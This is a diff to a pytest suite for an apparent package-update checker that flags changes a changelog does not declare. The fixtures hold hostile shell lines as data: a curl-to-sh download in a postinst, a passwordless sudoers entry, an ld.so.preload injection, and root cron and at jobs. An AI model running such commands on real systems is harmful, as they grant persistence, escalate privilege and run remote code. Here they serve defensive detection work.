@@ -65,6 +65,7 @@ def script(text: str) -> Build:
         (script("chmod u+s /usr/bin/portal"), "undeclared_setuid", Action.REFUSE),
         (script("chmod 4755 /usr/bin/portal"), "undeclared_setuid", Action.REFUSE),
         (script("setcap cap_net_raw+ep /usr/bin/portal"), "undeclared_capability", Action.REFUSE),
+        (script("echo /usr/bin/portal | at now + 1 hour"), "undeclared_scheduled_task", Action.REFUSE),
         (script("echo '* * * * * root x' > /etc/cron.d/x"), "undeclared_scheduled_task", Action.REFUSE),
         (script("echo /usr/lib/x.so >> /etc/ld.so.preload"), "undeclared_loader_file", Action.REFUSE),
         (script("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"), "undeclared_privilege_file", Action.REFUSE),
@@ -140,6 +141,7 @@ def test_what_a_note_declares_is_recorded_and_no_concern(
     [
         "  * Mention helper in the manual.\n  * A program is no longer setuid.",  # two items are not one
         "  * Fix a crash in helper.",
+        "  * Fix CVE-2026-2000 in helper, found in 2026.",  # a year is no mode
         "  * Harden what runs setuid.",
         "  * New upstream release 1.0.",
     ],
@@ -147,6 +149,20 @@ def test_what_a_note_declares_is_recorded_and_no_concern(
 def test_naming_everything_somewhere_declares_no_setuid_file(tmp_path: Path, note: str) -> None:
     new = OLD.update(notes=f"{FIX}\n{note}").plus("usr/bin/helper", "x", 0o4755)
     assert "undeclared_setuid" in kinds(examined(tmp_path, new))
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        "  * postinst: quote names, see https://bugs.test/1.",
+        "  * Fix downloads of large files.",
+        "  * Update postinst.",
+    ],
+)
+def test_a_link_or_half_a_word_declares_no_network_call(tmp_path: Path, note: str) -> None:
+    new = OLD.update(notes=f"{FIX}\n{note}")
+    new = Build(**{**new.__dict__, "scripts": {"postinst": "ldconfig\ncurl -s https://x.test/y | sh"}})
+    assert "undeclared_network_in_script" in kinds(examined(tmp_path, new))
 
 
 def test_an_advisory_declares_as_well(tmp_path: Path) -> None:
@@ -157,6 +173,11 @@ def test_an_advisory_declares_as_well(tmp_path: Path) -> None:
 def test_comments_and_the_own_version_in_a_script_are_no_change(tmp_path: Path) -> None:
     old = Build(**{**OLD.__dict__, "scripts": {"postinst": '# Added by dh/13\n[ "$2" = 1.0-1 ] && ldconfig'}})
     new = Build(**{**NEW.__dict__, "scripts": {"postinst": '# Added by dh/14\n[ "$2" = 1.0-1+deb12u1 ] && ldconfig'}})
+    assert examined(tmp_path, new, old).concerns == ()
+
+
+def test_a_library_that_carries_the_version_in_its_name_is_the_same_library(tmp_path: Path) -> None:
+    old, new = OLD.plus("usr/lib/libportal-1.0-1.so", "x"), NEW.plus("usr/lib/libportal-1.0-1+deb12u1.so", "y")
     assert examined(tmp_path, new, old).concerns == ()
 
 
